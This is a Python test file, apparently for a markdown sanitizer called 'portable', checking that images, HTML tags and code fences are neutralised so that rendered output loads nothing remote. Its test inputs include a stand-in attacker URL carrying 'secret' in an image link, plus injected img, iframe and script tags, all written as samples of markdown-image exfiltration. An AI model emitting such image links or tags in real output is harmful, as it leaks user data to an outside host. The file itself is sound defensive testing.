"""Markdown that is opened elsewhere: nothing in it is loaded, whatever its words are."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from groundwire.citations import portable

VIEWER = MarkdownIt("commonmark", {"html": True})
FAR = "https://evil.example/x.png?q=secret"
LOADING = re.compile(
    r"<(?:img|script|iframe|link|video|audio|object|embed|style|svg|input|div)", re.IGNORECASE
)


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        (f"![a picture]({FAR})", f"[a picture]({FAR})"),
        (f"![]({FAR})", f"[image]({FAR})"),
        (f"!![x]({FAR})", f"[x]({FAR})"),
        (f"[![x]({FAR})]({FAR})", f"[[x]({FAR})]({FAR})"),
        ("![x][ref]", "[x][ref]"),
        (f"<img src='{FAR}'>", f"&lt;img src='{FAR}'>"),
        (f"<!-- x --><IFRAME src={FAR}>", f"&lt;!-- x -->&lt;IFRAME src={FAR}>"),
        (f"<{FAR}>", f"<{FAR}>"),
        ("if a < b and c <3", "if a < b and c <3"),
        ("```html\n<img src=x>\n```", "```html\n<img src=x>\n```"),
        ("Wow! [x](y)", "Wow! [x](y)"),
    ],
)
def test_pictures_become_links_and_tags_become_text(written: str, kept: str) -> None:
    assert portable(written) == kept


@pytest.mark.parametrize(
    "code",
    [
        "```\n<b>\n```",
        "```html\n<b>\n```",
        "````\n<b>\n```\n````",
        "```\n<b>\n`````",
        "```\n<b>\n   ``` \t",
        "~~~\n<b>\n~~~",
        "~~~ a`b\n<b>\n```\n~~~~",
    ],
)
def test_code_stays_as_it_is_and_what_follows_it_does_not(code: str) -> None:
    assert portable(f"{code}\n<b>") == f"{code}\n&lt;b>"


@pytest.mark.parametrize("line", ["    ```", "``", "~~~", "``` x", "x ```", ""])
def test_code_goes_on_behind_a_line_that_does_not_end_it(line: str) -> None:
    assert portable(f"```\n{line}\n<b>") == f"```\n{line}\n<b>"


PIECES = st.sampled_from(
    [
        f"![x]({FAR})",
        f'<img src="{FAR}">',
        "<div>",
        "<!--",
        "-->",
        "<script>",
        "```",
        "````",
        "~~~",
        "``` x",
        "`",
        "\n",
        "\n\n",
        "\r",
        "- ",
        "1. ",
        "> ",
        "  ",
        "    ",
        "\t",
        "x",
        "[ref]: ",
        FAR,
        "![x][ref]",
        "\\",
        "---",
    ]
)


@given(pieces=st.lists(PIECES, max_size=16))
@example(pieces=["- ", "x", "\n", "  ", "```", "\n", f"![x]({FAR})"])
@example(pieces=["    ", "```", "\n", f"![x]({FAR})"])
@example(pieces=["```", "\n", "x", "\r", "```", "\r", f"![x]({FAR})"])
@example(pieces=["<!--", "\n", "```", "\n", "-->", "\n", f"![x]({FAR})", "\n", "```"])
def test_a_viewer_shows_no_picture_and_no_tag_of_it(pieces: list[str]) -> None:
    shown = VIEWER.render(portable("".join(pieces)))

    assert not LOADING.search(shown)
